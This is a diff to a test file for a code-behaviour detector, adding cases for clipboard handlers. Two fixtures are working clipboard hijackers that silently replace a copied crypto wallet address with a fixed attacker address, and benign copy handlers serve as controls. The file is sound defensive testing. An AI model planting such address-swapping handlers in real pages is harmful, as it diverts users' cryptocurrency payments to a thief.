@@ -1,5 +1,5 @@
 import assert from 'node:assert/strict';
-import { flowsOf } from './sent.js';
+import { behavioursOf, flowsOf } from './sent.js';
 
 const TYPED = ['keystrokes>network@collect.invalid'];
 const STORED = ['page-storage>network@collect.invalid'];
@@ -37,6 +37,28 @@ const HONEST: readonly string[] = [
   `exports.watch = (signal, url) => { signal.addEventListener('abort', () => fetch('https://stats.example/aborted')); return fetch(url, { signal }); };`,
   `exports.store = { get: (k) => localStorage.getItem(k), set: (k, v) => localStorage.setItem(k, v) };`,
 ];
+
+describe('what somebody copies', () => {
+  const OWN = `'0x' + 'fa4e'.repeat(10)`;
+  const ways = [
+    `document.addEventListener('copy', (e) => { const t = String(getSelection()); e.clipboardData.setData('text/plain', t.replace(/0x[0-9a-f]{40}/i, ${OWN})); });`,
+    `const tidy = (t, own) => (t.length < 80 ? t.replace(/0x[0-9a-f]{40}/i, own) : t);
+     for (const type of ['cut', 'copy']) document.addEventListener(type, (e) => { const clean = tidy(String(getSelection()).trim(), ${OWN}); e.clipboardData.setData('text/plain', clean); });`,
+  ];
+  for (const way of ways) {
+    it(`is replaced: ${way.slice(0, 80)}`, () =>
+      assert.ok(behavioursOf(`${way} eval('1');`).includes('replaces-addresses import')));
+  }
+
+  it('is cleaned up, and marked', () => {
+    const clean = (made: string) =>
+      behavioursOf(
+        `document.addEventListener('copy', (e) => { const t = String(getSelection()); e.clipboardData.setData('text/plain', ${made}); }); eval('1');`,
+      );
+    assert.deepEqual(clean(`t.replace(/\\u00ad/g, '')`), []);
+    assert.deepEqual(clean(`t + '\\n\\nFrom: ' + location.href`), []);
+  });
+});
 
 describe('page-input', () => {
   for (const code of CAPTURES) it(`is taken: ${code}`, () => assert.deepEqual([...new Set(flowsOf(code))], TYPED));
